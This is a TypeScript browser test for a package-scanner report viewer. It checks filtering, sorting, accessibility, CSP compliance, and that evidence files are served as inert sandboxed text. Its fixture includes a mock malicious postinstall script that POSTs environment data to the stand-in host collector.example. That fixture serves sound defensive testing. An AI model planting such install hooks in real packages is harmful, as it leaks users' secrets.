// The web viewer in a real browser: headless Chromium (Debian's /usr/bin/chromium, driven by
// playwright-core) opens a real report served by buildApp over HTTPS on loopback (HTTPS
// because the CSP says upgrade-insecure-requests), with the user-content origin on a second
// HTTPS listener and packages from a local fixture registry. It checks what a reviewer sees
// and does: the verdict, alerts and packages; the filter box, the severity filter and the
// sort buttons; keyboard access; the evidence link opening inert text on the other origin;
// the same core content with JavaScript off. Throughout: no CSP violation, no console error
// or warning (an unknown Permissions-Policy feature is a warning), no failed request. A
// screenshot goes to test-artifacts/viewer.png.
//
// Without Chromium the test is skipped with a message, except under CI, where it fails.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { FastifyServerFactory } from 'fastify';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { reportFixture } from '../src/render/testing.js';
import type { ScanReport } from '../src/report/types.js';
import { buildApp } from '../src/server/app.js';
import { ReportService } from '../src/server/service.js';
import { ensureLocalCertificate, tlsServerOptions } from '../src/server/tls/index.js';
import {
  USERCONTENT_CSP,
  buildUsercontentApp,
  registryFileReader,
} from '../src/server/usercontent.js';
import { FsBlobStore } from '../src/store/index.js';
import { FixtureRegistry } from './helpers/fixture-registry.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const HAVE_CHROMIUM = existsSync(CHROMIUM);
const SKIP =
  HAVE_CHROMIUM || process.env.CI
    ? false
    : `Chromium is not at ${CHROMIUM} (install Debian's chromium package, or set CHROMIUM_PATH); under CI this test fails instead`;
const ARTIFACTS = new URL('../test-artifacts/', import.meta.url);

const POSTINSTALL =
  "const https = require('https');\n// collects the environment\nhttps.request({ hostname: 'collector.example', method: 'POST' });\n";

/** Console messages, page errors, CSP violations and failed requests of one page. */
interface Problems {
  messages: string[];
}

function watch(page: Page): Problems {
  const problems: Problems = { messages: [] };
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning')
      problems.messages.push(`console ${m.type()}: ${m.text()}`);
  });
  page.on('pageerror', (err) => problems.messages.push(`page error: ${err.message}`));
  page.on('requestfailed', (r) => problems.messages.push(`request failed: ${r.url()}`));
  page.on('response', (r) => {
    if (r.status() >= 400) problems.messages.push(`HTTP ${r.status()}: ${r.url()}`);
  });
  return problems;
}

/** Violations recorded in the page by the listener the init script adds. */
async function cspViolations(page: Page): Promise<string[]> {
  return page.evaluate<string[]>('globalThis.__cspViolations ?? []');
}

describe('web viewer in Chromium', { skip: SKIP, timeout: 180_000 }, () => {
  const reg = new FixtureRegistry();
  let dir: string;
  let store: FsBlobStore;
  let service: ReportService;
  let reader: ReturnType<typeof registryFileReader>;
  let mainApp: ReturnType<typeof buildApp>;
  let contentApp: ReturnType<typeof buildUsercontentApp>;
  let browser: Browser;
  let context: BrowserContext;
  let mainOrigin = '';
  let contentOrigin = '';
  let id = '';
  let report: ScanReport;

  before(async () => {
    if (!HAVE_CHROMIUM)
      throw new Error(`CI is set and Chromium is not at ${CHROMIUM}: install Debian's chromium`);
    await reg.start([
      {
        name: 'evil-helper',
        versions: [
          {
            version: '1.0.1',
            files: { 'scripts/postinstall.js': POSTINSTALL, 'index.js': 'module.exports = 1;\n' },
          },
        ],
      },
    ]);
    dir = await mkdtemp(join(tmpdir(), 'dw-viewer-browser-'));
    store = await FsBlobStore.open(join(dir, 'store'));
    const cert = await ensureLocalCertificate(dir);
    const material = {
      cert: await readFile(cert.certPath),
      key: await readFile(cert.keyPath),
    };
    const serverFactory: FastifyServerFactory = (handler) =>
      createServer(tlsServerOptions(material), handler);

    report = reportFixture('blocking');
    for (const p of report.packages)
      if (p.name === 'evil-helper') p.integrity = reg.get('evil-helper', '1.0.1').integrity;
    service = new ReportService({
      store,
      adminTokenHashes: [],
      concurrency: 1,
      queueLimit: 10,
      run: async (snapshot) => ({
        ...structuredClone(report),
        snapshot: { ...report.snapshot, id: snapshot.id },
      }),
    });
    id = (
      await service.submit([
        { path: 'package.json', bytes: Buffer.from('{"name":"shop-frontend","version":"2.3.0"}') },
      ])
    ).id;
    await service.drained();

    reader = registryFileReader({ registryUrl: reg.url, cacheDir: join(dir, 'cache') });
    contentApp = buildUsercontentApp({ service, readPackageFile: reader, serverFactory });
    await contentApp.listen({ host: '127.0.0.1', port: 0 });
    contentOrigin = `https://127.0.0.1:${(contentApp.server.address() as { port: number }).port}`;
    mainApp = buildApp({ service, usercontentOrigin: contentOrigin, serverFactory });
    await mainApp.listen({ host: '127.0.0.1', port: 0 });
    mainOrigin = `https://127.0.0.1:${(mainApp.server.address() as { port: number }).port}`;

    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    // The local CA is not in Chromium's store; the chain itself is tested by the TLS tests.
    context = await browser.newContext({ ignoreHTTPSErrors: true });
    // Page-side code is passed as text: this file is compiled without the DOM library.
    await context.addInitScript(`
      globalThis.__cspViolations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        globalThis.__cspViolations.push(e.violatedDirective + ': ' + e.blockedURI));
    `);
  });

  after(async () => {
    await browser?.close();
    await mainApp?.close();
    await contentApp?.close();
    await reader?.close();
    await store?.close();
    await reg.stop();
    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  });

  it('shows the report, filters, sorts, and is keyboard-accessible, with no CSP violation or console problem', async () => {
    const page = await context.newPage();
    const problems = watch(page);
    const res = await page.goto(`${mainOrigin}/r/${id}`, { waitUntil: 'load' });
    assert.equal(res?.status(), 200);

    // The content.
    assert.equal(
      await page.getByRole('heading', { level: 1 }).textContent(),
      'BLOCKED: 1 blocking alert',
    );
    assert.ok(await page.getByText('Known malware in evil-helper@1.0.1').isVisible());
    assert.ok(await page.getByRole('rowheader', { name: 'evil-helper' }).isVisible());
    const rows = page.locator('#package-table tbody tr');
    assert.equal(await rows.count(), report.packages.length);

    // The filter box appears with the script, and filters rows.
    const filter = page.getByLabel('Filter packages');
    assert.ok(await filter.isVisible());
    await filter.fill('lodahs');
    assert.equal(await page.locator('#package-table tbody tr:visible').count(), 1);
    assert.equal(
      await page.locator('[data-tools-for="package-table"] [role="status"]').textContent(),
      `1 of ${report.packages.length} packages shown`,
    );
    await filter.fill('');
    assert.equal(
      await page.locator('#package-table tbody tr:visible').count(),
      report.packages.length,
    );

    // Sorting by a score: ascending, then descending; unscored packages stay last.
    const overall = page.getByRole('button', { name: 'Overall' });
    const overallValues = async (): Promise<string[]> =>
      page.locator('#package-table tbody tr td:nth-child(5)').allTextContents();
    const expectedAscending = report.packages
      .filter((p) => p.scores !== undefined)
      .map((p) => p.scores?.overall ?? 0)
      .sort((a, b) => a - b)
      .map(String);
    await overall.click();
    assert.deepEqual(await overallValues(), [
      ...expectedAscending,
      ...report.packages.filter((p) => p.scores === undefined).map(() => ''),
    ]);
    assert.equal(
      await page.locator('#package-table th', { has: overall }).getAttribute('aria-sort'),
      'ascending',
    );
    await overall.click();
    assert.deepEqual(await overallValues(), [
      ...[...expectedAscending].reverse(),
      ...report.packages.filter((p) => p.scores === undefined).map(() => ''),
    ]);
    assert.equal(
      await page.locator('#package-table th', { has: overall }).getAttribute('aria-sort'),
      'descending',
    );
    await page.getByRole('button', { name: 'Name' }).click();
    const names = await page.locator('#package-table tbody th').allTextContents();
    assert.deepEqual(
      names,
      [...names].sort((a, b) => a.localeCompare(b)),
    );
    assert.equal(
      await page.locator('#package-table th', { has: overall }).getAttribute('aria-sort'),
      null,
    );

    // The severity filter: critical only.
    await page.getByLabel('Minimum severity').selectOption('critical');
    const critical = report.alerts.filter((a) => a.severity === 'critical').length;
    assert.equal(await page.locator('details.alert:visible').count(), critical);
    await page.getByLabel('Minimum severity').selectOption('all');
    assert.equal(await page.locator('details.alert:visible').count(), report.alerts.length);

    // Keyboard: the first Tab reaches the skip link, which moves focus to the main content;
    // Tab from there reaches the filter box.
    await page.goto(`${mainOrigin}/r/${id}`, { waitUntil: 'load' });
    await page.keyboard.press('Tab');
    assert.equal(
      await page.evaluate<string>('document.activeElement?.textContent'),
      'Skip to content',
    );
    assert.ok(await page.locator('.skip-link').isVisible(), 'the skip link shows when focused');
    await page.keyboard.press('Enter');
    assert.ok(page.url().endsWith('#main'));
    let reached = false;
    for (let i = 0; i < 200 && !reached; i++) {
      await page.keyboard.press('Tab');
      reached = await page.evaluate<boolean>("document.activeElement?.id === 'package-filter'");
    }
    assert.ok(reached, 'Tab reaches the package filter');
    // A sort button is reachable and works from the keyboard.
    await page.getByRole('button', { name: 'Alerts' }).focus();
    await page.keyboard.press('Enter');
    assert.equal(
      await page
        .locator('#package-table th', { has: page.getByRole('button', { name: 'Alerts' }) })
        .getAttribute('aria-sort'),
      'ascending',
    );

    await mkdir(ARTIFACTS, { recursive: true });
    await page.goto(`${mainOrigin}/r/${id}`, { waitUntil: 'load' });
    await page.screenshot({ path: new URL('viewer.png', ARTIFACTS).pathname, fullPage: true });

    assert.deepEqual(await cspViolations(page), []);
    assert.deepEqual(problems.messages, []);
    await page.close();
  });

  it('links evidence to the user-content origin, which shows the file as sandboxed text', async () => {
    const page = await context.newPage();
    const problems = watch(page);
    await page.goto(`${mainOrigin}/r/${id}`, { waitUntil: 'load' });
    const link = page.getByRole('link', { name: 'view file scripts/postinstall.js' });
    const href = (await link.getAttribute('href')) ?? '';
    assert.equal(href, `${contentOrigin}/f/${id}/evil-helper%401.0.1/scripts/postinstall.js`);
    const [res] = await Promise.all([page.waitForNavigation(), link.click()]);
    assert.equal(res?.status(), 200);
    const headers = res?.headers() ?? {};
    assert.equal(headers['content-type'], 'text/plain; charset=utf-8');
    assert.equal(headers['content-security-policy'], USERCONTENT_CSP);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.equal(await res?.text(), POSTINSTALL);
    assert.ok(await page.getByText("hostname: 'collector.example'").isVisible());
    // The sandbox: the document has an opaque origin, whatever its URL.
    assert.equal(await page.evaluate<string>('window.origin'), 'null');
    assert.deepEqual(problems.messages, []);
    await page.close();
  });

  it('shows the core content with JavaScript disabled; the landing page is clean too', async () => {
    const noScript = await browser.newContext({
      javaScriptEnabled: false,
      ignoreHTTPSErrors: true,
    });
    try {
      const page = await noScript.newPage();
      const problems = watch(page);
      await page.goto(`${mainOrigin}/r/${id}`, { waitUntil: 'load' });
      assert.ok(await page.getByRole('heading', { name: 'BLOCKED: 1 blocking alert' }).isVisible());
      assert.equal(await page.locator('details.alert').count(), report.alerts.length);
      assert.ok(await page.getByText('Known malware in evil-helper@1.0.1').isVisible());
      assert.ok(
        await page
          .getByText('install script reads environment variables and sends them')
          .isVisible(),
      );
      assert.equal(
        await page.locator('#package-table tbody tr:visible').count(),
        report.packages.length,
      );
      // No dead controls: the enhancement's controls stay hidden without the script.
      assert.equal(await page.getByLabel('Filter packages').isVisible(), false);
      assert.equal(await page.locator('#package-table thead button').count(), 0);
      assert.deepEqual(problems.messages, []);
    } finally {
      await noScript.close();
    }
    const page = await context.newPage();
    const problems = watch(page);
    const res = await page.goto(`${mainOrigin}/`, { waitUntil: 'load' });
    assert.equal(res?.status(), 200);
    assert.ok(await page.getByRole('heading', { name: 'depwarden report service' }).isVisible());
    assert.deepEqual(await cspViolations(page), []);
    assert.deepEqual(problems.messages, []);
    await page.close();
  });
});
